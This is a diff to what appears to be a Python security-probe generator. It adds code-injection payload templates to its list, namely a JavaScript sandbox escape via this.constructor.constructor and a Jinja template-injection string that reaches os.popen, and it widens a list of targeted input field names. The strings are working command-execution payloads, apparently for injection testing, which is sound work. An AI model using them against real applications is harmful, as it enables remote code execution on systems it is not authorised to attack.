@@ -19,6 +19,11 @@ _DEEP = (
 _CODE = (
     ("Python", "__import__('os').system('{run}')"),
     ("JavaScript", "process.mainModule.require('child_process').execSync('{run}')"),
+    (
+        "JavaScript out of a context",
+        "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('{run}')",
+    ),
+    ("a template", "{{ cycler.__init__.__globals__.os.popen('{run}').read() }}"),
     ("JavaScript with import", "process.getBuiltinModule('child_process').execSync('{run}')"),
 )
 
@@ -38,7 +43,7 @@ def probes(ground: Ground) -> Iterator[Probe]:
 
 _WORKED_OUT = listed(
     "expression expr equation formula math code script snippet eval filter query condition template function "
-    "fn rule calculation value input"
+    "fn rule calculation value input prompt body html markdown"
 )
 
 
